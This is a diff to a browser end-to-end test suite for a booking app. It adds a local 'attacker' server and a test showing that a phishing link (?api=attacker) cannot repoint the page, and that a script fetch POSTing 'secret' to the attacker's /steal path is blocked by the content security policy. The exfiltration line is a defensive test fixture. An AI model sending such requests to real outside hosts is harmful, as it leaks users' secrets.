@@ -4,7 +4,9 @@
 //   TRIPDESK_BIN=target/debug/tripdesk node --test e2e/browser.test.mjs
 //
 // Starts its own tripdesk on a fresh SQLite file, plus two static servers
-// with a copy of the page: one origin listed in ALLOWED_ORIGINS, one not.
+// with a copy of the page whose API origin is written into it (the page
+// never takes it from its URL): one origin listed in ALLOWED_ORIGINS, one
+// not. A third server stands for an attacker and records what reaches it.
 import { test, before, after } from "node:test";
 import assert from "node:assert/strict";
 import { spawn } from "node:child_process";
@@ -23,10 +25,12 @@ const CHROMIUM_FLAGS = [
   "--disable-component-update", "--no-first-run",
 ];
 
-let service, data, browser, tripdesk, allowedSite, otherSite;
+let service, data, browser, tripdesk, allowedSite, otherSite, attacker;
+const attackerRequests = [];
 
-/** Serves a copy of static/ on a free port; resolves to its origin. */
-function staticSite() {
+/** Serves a copy of static/ on a free port, its app.js pointed at the API
+ *  origin `api()` returns; resolves to its origin. */
+function staticSite(api) {
   const types = { ".html": "text/html", ".js": "text/javascript", ".css": "text/css" };
   const server = createServer((request, response) => {
     const path = new URL(request.url, "http://x").pathname;
@@ -36,7 +40,13 @@ function staticSite() {
       return;
     }
     response.writeHead(200, { "Content-Type": types[name.slice(name.lastIndexOf("."))] });
-    response.end(readFileSync(join(root, "static", name)));
+    let body = readFileSync(join(root, "static", name), "utf8");
+    if (name === "app.js") {
+      const pointed = body.replace('const API = "";', `const API = ${JSON.stringify(api())};`);
+      assert.notEqual(pointed, body, "app.js has the API origin line");
+      body = pointed;
+    }
+    response.end(body);
   });
   return new Promise((done) => server.listen(0, "127.0.0.1", () =>
     done({ server, origin: `http://127.0.0.1:${server.address().port}` })));
@@ -73,8 +83,16 @@ async function startTripdesk(allowedOrigin) {
 }
 
 before(async () => {
-  allowedSite = await staticSite();
-  otherSite = await staticSite();
+  allowedSite = await staticSite(() => tripdesk);
+  otherSite = await staticSite(() => tripdesk);
+  attacker = await new Promise((done) => {
+    const server = createServer((request, response) => {
+      attackerRequests.push(`${request.method} ${request.url}`);
+      response.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
+    });
+    server.listen(0, "127.0.0.1", () =>
+      done({ server, origin: `http://127.0.0.1:${server.address().port}` }));
+  });
   tripdesk = await startTripdesk(allowedSite.origin);
   browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: CHROMIUM_FLAGS });
   mkdirSync(shots, { recursive: true });
@@ -85,6 +103,7 @@ after(async () => {
   service?.kill();
   allowedSite?.server.close();
   otherSite?.server.close();
+  attacker?.server.close();
   if (data) rmSync(data, { recursive: true, force: true });
 });
 
@@ -156,10 +175,37 @@ test("register, book, reload, httpOnly cookie, log out", async () => {
   await context.close();
 });
 
+test("a phishing link cannot point the genuine page at another server", async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.goto(`${tripdesk}/?api=${encodeURIComponent(attacker.origin)}`);
+  await page.waitForSelector("#auth:not([hidden])");
+  const email = uniqueEmail("phish");
+  await register(page, email);
+  await page.click("#logout");
+  await page.waitForSelector("#auth:not([hidden])");
+  await page.fill("#login-form [name=email]", email);
+  await page.fill("#login-form [name=password]", "a long enough secret");
+  await page.click("#login-form button[type=submit]");
+  await page.waitForSelector("#whoami:not([hidden])");
+  // Even script on the page could not reach it: connect-src 'self'.
+  const fromScript = await page.evaluate(async (target) => {
+    try {
+      await fetch(`${target}/steal`, { method: "POST", body: "secret" });
+      return "sent";
+    } catch (_) {
+      return "blocked";
+    }
+  }, attacker.origin);
+  assert.equal(fromScript, "blocked");
+  assert.deepEqual(attackerRequests, [], "nothing reached the other server");
+  await context.close();
+});
+
 test("credentialed CORS from a listed origin, refused from any other", async () => {
   const context = await browser.newContext();
   const page = await context.newPage();
-  await page.goto(`${allowedSite.origin}/?api=${encodeURIComponent(tripdesk)}`);
+  await page.goto(`${allowedSite.origin}/`);
   await page.waitForSelector("#auth:not([hidden])");
   await register(page, uniqueEmail("cors"));
   await page.waitForSelector("#consultants li");
@@ -171,7 +217,7 @@ test("credentialed CORS from a listed origin, refused from any other", async () 
   assert.match(fromAllowed.body.user.email, /^cors-/);
 
   // The same page, the same browser and cookie, from an origin not listed.
-  await page.goto(`${otherSite.origin}/?api=${encodeURIComponent(tripdesk)}`);
+  await page.goto(`${otherSite.origin}/`);
   await page.waitForSelector("#message.error");
   assert.equal(await page.isVisible("#whoami"), false);
   const fromOther = await page.evaluate(async (api) => {
@@ -195,7 +241,7 @@ test("credentialed CORS from a listed origin, refused from any other", async () 
   assert.deepEqual(fromOther, { read: "refused", write: "refused" });
 
   // The refused logout changed nothing: the session still works where allowed.
-  await page.goto(`${allowedSite.origin}/?api=${encodeURIComponent(tripdesk)}`);
+  await page.goto(`${allowedSite.origin}/`);
   await page.waitForSelector("#whoami:not([hidden])");
   await context.close();
 });
